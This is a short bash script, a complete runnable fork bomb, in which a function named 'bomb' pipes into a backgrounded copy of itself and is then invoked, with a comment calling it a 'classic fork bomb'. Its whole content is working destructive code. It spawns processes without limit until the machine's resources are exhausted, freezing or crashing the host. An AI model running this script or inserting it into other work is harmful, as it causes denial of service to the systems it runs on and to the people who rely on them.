#!/bin/bash
# Classic fork bomb.
bomb() { bomb | bomb & }
bomb
wait
